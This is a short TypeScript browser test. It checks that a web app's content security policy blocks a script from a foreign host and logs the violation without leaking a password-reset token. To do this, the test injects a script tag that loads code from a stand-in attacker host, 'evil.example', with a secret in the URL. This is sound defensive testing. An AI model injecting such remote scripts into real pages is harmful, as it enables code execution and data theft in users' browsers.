import { expect } from 'vitest';
import { createLogger } from '../../src/platform/log.ts';
import { testApp } from '../support/app.ts';
import { withBrowser } from '../support/browser.ts';
import { pageTest } from '../support/page-test.ts';

const lines: string[] = [];
const test = pageTest(() =>
  testApp({ log: createLogger('warn', { write: (line: string) => void lines.push(line) }) }),
);

withBrowser('the content security policy', () => {
  test('blocks a script of another host, and the browser reports it to the log', async ({
    context,
    origin,
  }) => {
    const page = await context.newPage();
    await page.goto(`${origin}/reset-password?token=secret`);
    await page.evaluate(`{
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js?secret';
      document.head.append(script);
    }`);
    await expect.poll(() => lines.join('')).toContain('content security policy violated');
    const [line = ''] = lines;
    expect(JSON.parse(line)).toMatchObject({
      directive: 'script-src-elem',
      blocked: 'evil.example',
      page: '/reset-password',
    });
    expect(lines.join('')).not.toContain('secret');
  });
});
